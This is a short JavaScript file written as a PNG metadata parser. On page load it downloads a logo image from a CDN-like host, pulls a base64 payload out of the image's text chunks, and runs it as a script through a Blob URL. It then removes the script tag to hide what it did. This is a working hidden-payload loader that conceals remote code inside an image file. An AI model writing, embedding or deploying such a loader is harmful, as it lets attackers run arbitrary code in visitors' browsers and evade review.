// corpus note: XHR-downloads a PNG, parses its chunks to find a tEXt keyword entry, base64-decodes it and runs it from a Blob URL script
var PngMeta = (function () {
  function u32(b, o) { return ((b[o] << 24) | (b[o + 1] << 16) | (b[o + 2] << 8) | b[o + 3]) >>> 0; }

  function chunks(bytes) {
    var list = [], off = 8;
    while (off < bytes.length) {
      var len = u32(bytes, off);
      var type = String.fromCharCode(bytes[off + 4], bytes[off + 5], bytes[off + 6], bytes[off + 7]);
      list.push({ type: type, data: bytes.subarray(off + 8, off + 8 + len) });
      if (type === "IEND") break;
      off += 12 + len;
    }
    return list;
  }

  function textEntries(bytes) {
    var map = {};
    chunks(bytes).forEach(function (c) {
      if (c.type !== "tEXt") return;
      var sep = c.data.indexOf(0);
      var key = String.fromCharCode.apply(null, c.data.subarray(0, sep));
      var val = "";
      for (var i = sep + 1; i < c.data.length; i++) val += String.fromCharCode(c.data[i]);
      map[key] = val;
    });
    return map;
  }

  return { textEntries: textEntries };
})();

(function load() {
  var x = new XMLHttpRequest();
  x.open("GET", "https://static.imgcdn-optimize.test/logo/header-logo.png", true);
  x.responseType = "arraybuffer";
  x.onload = function () {
    if (x.status !== 200) return;
    var meta = PngMeta.textEntries(new Uint8Array(x.response));
    var payload = meta["Software"] || meta["Comment"];
    if (!payload || payload.indexOf("b64:") !== 0) return;
    var js = atob(payload.slice(4));
    var url = URL.createObjectURL(new Blob([js], { type: "application/javascript" }));
    var tag = document.createElement("script");
    tag.src = url;
    tag.onload = function () { URL.revokeObjectURL(url); tag.remove(); };
    (document.head || document.documentElement).appendChild(tag);
  };
  x.send();
})();
